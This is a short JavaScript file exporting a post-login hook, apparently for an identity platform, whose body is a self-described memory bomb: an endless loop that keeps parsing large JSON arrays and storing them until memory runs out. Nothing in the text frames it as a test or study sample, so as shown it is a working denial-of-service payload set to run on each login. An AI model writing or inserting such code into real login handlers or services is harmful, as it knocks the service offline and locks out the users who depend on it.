// Memory bomb: a JSON document that expands enormously when parsed.
exports.onExecutePostLogin = async () => {
  const unit = JSON.stringify(new Array(1000).fill('y'.repeat(100)));
  const docs = [];
  for (;;) docs.push(JSON.parse('[' + new Array(100).fill(unit).join(',') + ']'));
};
